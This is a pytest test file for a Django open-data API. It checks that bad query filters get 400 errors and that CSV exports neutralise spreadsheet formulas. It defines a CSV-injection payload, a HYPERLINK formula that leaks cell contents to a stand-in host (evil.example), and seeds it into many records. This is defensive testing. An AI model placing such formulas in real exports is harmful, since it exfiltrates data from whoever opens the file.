"""Query strings that the open data API and the downloads refuse, and cells that a spreadsheet
would run.

A wrong filter value (a huge number, year 0 or 10000, a word, an unknown choice or language)
answers 400 with a message naming the parameter, never 500. A text that a spreadsheet would read
as a formula is written after a single quote in every CSV download; numbers stay numbers.
"""

import json
from datetime import timedelta

import pytest
from django.urls import get_resolver

from baqylau.accountability.models import Finding, Recommendation
from baqylau.accounts.models import Role
from baqylau.api import tabular
from baqylau.inforequests.models import InformationRequest, RequestEvent
from baqylau.meetings.commitments import commitment_propose
from baqylau.monitoring.models import Campaign
from baqylau.participation import reports
from baqylau.participation.models import Category, Report
from baqylau.procurement.models import ContractingProcess, FlagAnswer, FlagFeedback, Party
from baqylau.registry import services, versions
from baqylau.registry.models import (
    Indicator,
    IndicatorValue,  # noqa: E402
    Organisation,
    PlanChange,
    ProjectObject,
)

from ..factories import (
    AwardFactory,
    ContractingProcessFactory,
    InformationRequestFactory,
    MembershipFactory,
    PartyFactory,
    RiskFlagFactory,
    council_plan,
    make_council,
    make_scorecard,
)
from ..helpers import results
from ..world import people_registry_and_world

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("shared", "fake_pdf")]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
LANGUAGES = ("kk", "ru", "en")


def _everywhere(model, pk, *fields):
    """Writes the formula in each language of each translated field of the record."""
    values = {f"{name}_{code}": FORMULA for name in fields for code in LANGUAGES}
    model._base_manager.filter(pk=pk).update(**values)


def build_once(today) -> dict:
    """The people, the registry and the world (tests/world.py), a sent request and a published
    report, with a formula in a text of each of them."""
    data = people_registry_and_world(today)
    registry, world = data["registry"], data["world"]
    request = InformationRequestFactory(requester=data["carol"], body=data["body"], sent=True)
    InformationRequest.private_objects.filter(pk=request.pk).update(subject=FORMULA)
    RequestEvent.objects.filter(request=request).update(note=FORMULA)
    report = reports.report_submit(
        category=Category.objects.get(code="quality-of-work"),
        title="Broken roof",
        description="Water comes through the roof.",
        place=reports.Place(project_object=registry["school"]),
        reporter=data["carol"],
    )
    reports.report_publish(report=report, actor=data["max_moderator"])
    Report.private_objects.filter(pk=report.pk).update(title=FORMULA)
    _everywhere(ProjectObject, registry["school"].pk, "name")
    _everywhere(Indicator, registry["indicator"].pk, "name")
    _everywhere(Organisation, data["body"].pk, "name")
    _everywhere(Organisation, registry["akimat"].pk, "name")
    _everywhere(Campaign, world["published"].pk, "title")
    Finding.private_objects.filter(pk=world["roof"].pk).update(title=FORMULA)
    Recommendation.private_objects.filter(pk=world["first"].pk).update(text=FORMULA)
    buyer = Party.objects.create(identifier="1", organisation=data["body"])
    process = ContractingProcess.objects.create(ocid="ocds-x-1", buyer=buyer, compiled_sha256="")
    FlagFeedback.objects.create(process=process, code="R018", verdict="confirmed", note=FORMULA)
    FlagAnswer.objects.create(process=process, code="R018", body=data["body"], text=FORMULA)
    # A revision of the plan whose source is a formula (the subject and sentence hold one too).
    indicator = registry["indicator"]
    value = IndicatorValue.private_objects.filter(indicator=indicator).order_by("year").first()
    with versions.plan_revision(document=indicator.goal.document, source=FORMULA):
        services.indicator_value_set(
            indicator_id=indicator.pk, year=value.year, plan=(value.plan or 2) - 1
        )
    PlanChange.private_objects.update(subject=FORMULA)
    process = ContractingProcessFactory(ocid=FORMULA, title=FORMULA)
    AwardFactory(process=process, suppliers=[PartyFactory(name=FORMULA)])
    RiskFlagFactory(process=process)
    # The dialogue: a commitment, a line of a council's plan and a scorecard's indicator.
    alice = data["alice"]
    commitment_propose(
        body=data["body"], text=FORMULA, due_on=today + timedelta(days=30), by=alice, publish=True
    )
    council = make_council()
    MembershipFactory(user=alice, organisation=council, role=Role.COORDINATOR)
    council_plan(council, alice, today, subject=dict.fromkeys(LANGUAGES, FORMULA))
    scorecard = make_scorecard(
        registry=registry,
        ngo=data["ngo"],
        coordinator=alice,
        body=data["body"],
        today=today,
        published=True,
        slug="scorecard-with-a-formula",
    )
    scorecard.indicators.filter(order=1).update(text=FORMULA)
    return data


# Filters ----------------------------------------------------------------------------------------

HUGE = "99999999999999999999"
BAD_YEARS = ["0", "1", "-2024", "10000", HUGE, "last", "2024.5"]
YEAR_FILTERS = [
    "/api/documents/",
    "/api/financing/",
    "/api/requests/",
    "/api/recommendations/",
    "/api/request-ranking/",
    "/api/recommendation-ranking/",
    "/api/report-ranking/",
    "/data/requests.csv",
    "/data/request-events.csv",
    "/data/recommendations.csv",
    "/data/request-ranking.csv",
    "/data/recommendation-ranking.csv",
    "/data/report-ranking.csv",
]


def refused(client, url: str, parameter: str) -> list[str]:
    """The messages of the 400 answer to `url`, about `parameter`."""
    response = client.get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400, (url, response.status_code)
    assert response["Content-Type"].startswith("application/json")
    errors = json.loads(response.content)
    assert list(errors) == [parameter], errors
    return errors[parameter]


@pytest.mark.parametrize("url", YEAR_FILTERS)
@pytest.mark.parametrize("year", BAD_YEARS)
def test_a_year_that_is_no_year_is_refused(client, url, year):
    assert refused(client, f"{url}?year={year}", "year") == ["A year of four digits, such as 2024."]


@pytest.mark.parametrize("url", ["/api/requests/", "/data/requests.csv", "/api/request-ranking/"])
def test_the_first_and_last_four_digit_years_are_answered(client, url):
    for year in ("1000", "9999"):
        assert client.get(f"{url}?year={year}").status_code == 200


@pytest.mark.parametrize("goal", ["0", "-1", HUGE, "9223372036854775808", "one"])
def test_a_goal_id_out_of_range_is_refused(client, goal):
    assert refused(client, f"/api/indicators/?goal={goal}", "goal")


def test_the_largest_goal_id_finds_nothing(client, registry):
    assert results(client.get("/api/indicators/?goal=9223372036854775807")) == []
    goal = registry["indicator"].goal_id
    assert len(results(client.get(f"/api/indicators/?goal={goal}"))) == 1


@pytest.mark.parametrize(
    "url",
    [
        "/api/documents/?type=castle",
        "/api/indicators/?kind=castle",
        "/api/objects/?status=castle",
        "/api/requests/?status=castle",
        "/api/recommendations/?state=castle",
        "/api/reports/?status=castle",
        "/api/evidence/?far=maybe",
        "/api/procurement/flag-feedback/?verdict=castle",
        "/api/reports/?open=maybe",
        "/api/request-events/?since=2024-02-30",
        "/data/objects.csv?kind=castle",
        "/data/reports.csv?status=castle",
    ],
)
def test_an_unknown_choice_is_refused(client, url):
    parameter = url.split("?")[1].split("=")[0]
    assert refused(client, url, parameter)


@pytest.mark.parametrize(
    "url",
    [
        "/api/objects/?q=%00",
        "/api/documents/?territory=a%00b",
        "/data/indicators.csv?document=a%00",
    ],
)
def test_a_null_character_is_refused(client, url):
    # PostgreSQL cannot hold one in a query: it must not get there.
    assert refused(client, url, url.split("?")[1].split("=")[0])


def test_an_unknown_language_is_refused_with_the_accepted_ones(client):
    messages = refused(client, "/api/documents/?lang=fr", "lang")
    assert messages == ["Unknown language “fr”: use one of kk, ru, en."]
    assert refused(client, "/api/request-ranking/?lang=xx", "lang")
    assert refused(client, "/api/documents/regional-plan/?lang=xx", "lang")
    assert client.get("/api/documents/?lang=ru").status_code == 200


@pytest.mark.parametrize(
    "url", ["/data/objects.geojson", "/data/request-events.csv", "/data/reports.csv"]
)
def test_a_download_refuses_an_unknown_language_too(client, url):
    messages = refused(client, f"{url}?lang=de", "lang")
    assert messages == ["Unknown language “de”: use one of kk, ru, en."]
    assert client.get(f"{url}?lang=kk").status_code == 200


def test_an_offset_past_the_databases_integers_gives_an_empty_page(client):
    response = client.get(f"/api/documents/?offset={HUGE}")
    assert response.status_code == 200
    assert response.json()["results"] == []


@pytest.mark.parametrize(
    "path", [f"/api/findings/{HUGE}/", "/api/evidence/1e3/", "/api/documents/a%00b/"]
)
def test_an_address_that_names_no_possible_record_is_not_found(client, path):
    assert client.get(path).status_code == 404


# CSV injection ----------------------------------------------------------------------------------

# Every CSV download, by its address.
CSV_DOWNLOADS = sorted(
    f"/data/{pattern.pattern}"
    for pattern in get_resolver("baqylau.api.download_urls").url_patterns
    if str(pattern.pattern).endswith(".csv")
)


def test_every_csv_download_is_checked():
    assert len(CSV_DOWNLOADS) == 22, CSV_DOWNLOADS


@pytest.mark.parametrize("url", CSV_DOWNLOADS)
def test_no_download_has_a_cell_a_spreadsheet_would_run(client, url):
    response = client.get(f"{url}?lang=en")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in tabular.csv.reader(text.splitlines()) for cell in row]
    assert "'" + FORMULA in cells, url
    for cell in cells:
        assert not cell.startswith(tabular.FORMULA_START) or tabular.NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+7 701 123 45 67", "'+7 701 123 45 67"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("+4", "+4"),
        ("1e-3", "1e-3"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formulas_are_quoted_and_numbers_kept(cell, written):
    assert tabular.safe(cell) == written


# The schema says so -----------------------------------------------------------------------------


def test_the_schema_declares_the_answers_to_wrong_input_and_the_empty_relations(client):
    schema = client.get("/api/schema/").json()
    for path, operations in schema["paths"].items():
        responses = operations["get"]["responses"]
        assert "400" in responses, path
        assert ("404" in responses) == ("{" in path), path
    properties = {
        name: item.get("properties", {}) for name, item in schema["components"]["schemas"].items()
    }
    for component, field in [
        ("Document", "territory"),
        ("Object", "contractor"),
        ("Object", "responsible_body"),
        ("Organisation", "parent"),
        ("Organisation", "territory"),
        ("Territory", "parent"),
    ]:
        assert properties[component][field].get("nullable") is True, (component, field)
    parameters = {
        p["name"]: p["schema"] for p in schema["paths"]["/api/requests/"]["get"]["parameters"]
    }
    assert (parameters["year"]["minimum"], parameters["year"]["maximum"]) == (1000, 9999)
    english = client.get("/api/schema/", HTTP_ACCEPT_LANGUAGE="en").json()
    operation = english["paths"]["/api/indicators/"]["get"]
    goal = next(p for p in operation["parameters"] if p["name"] == "goal")
    assert goal["description"] == "Goal id"
    assert goal["schema"]["minimum"] == 1
